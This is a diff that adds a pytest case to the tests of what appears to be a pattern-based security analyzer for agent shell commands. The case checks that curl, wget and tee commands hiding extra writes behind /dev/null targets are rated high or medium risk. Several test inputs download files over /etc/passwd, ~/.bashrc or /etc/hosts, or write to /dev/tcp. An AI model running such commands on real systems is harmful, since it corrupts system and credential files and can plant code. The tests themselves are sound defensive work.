@@ -591,3 +591,29 @@ def test_failing_analyzer_makes_an_action_wait(
     assert action.security_risk is HIGH
     assert "failed" in (action.security_risk_reason or "")
     assert not (workspace / "made.txt").exists()
+
+
+@pytest.mark.parametrize(
+    ("command", "risk"),
+    [
+        ("curl -o/dev/null/ https://x.example", HIGH),
+        ("curl -o '/dev/null' https://x.example", MEDIUM),
+        ("curl -o /dev/stdout -o /etc/passwd https://x.example https://y.example", HIGH),
+        ("wget -O- -P /etc https://x.example", HIGH),
+        ("curl --output-dir=/etc -O https://x.example/f", HIGH),
+        ("curl -K /dev/null https://x.example", MEDIUM),
+        ("curl -o ~/.bashrc https://x.example", HIGH),
+        ("curl --stderr /etc/x https://x.example", HIGH),
+        ("tee -a /dev/stderr /etc/hosts", HIGH),
+        ("curl -o /dev/tcp/1.2.3.4/80 https://x.example", HIGH),
+        ("CURL -o /etc/x https://x.example", HIGH),
+        ("wget --output-file=/etc/log -O /dev/null https://x.example", HIGH),
+    ],
+)
+def test_discard_targets_hide_no_other_write(
+    patterns: PatternSecurityAnalyzer, command: str, risk: SecurityRisk
+) -> None:
+    """Tries written after the discard-target change, not designed around it: a second
+    output, another writing option, a path that only starts like /dev/null, a config file
+    given as /dev/null (read, and it runs), a capitalised program name."""
+    assert assess(patterns, command).risk is risk
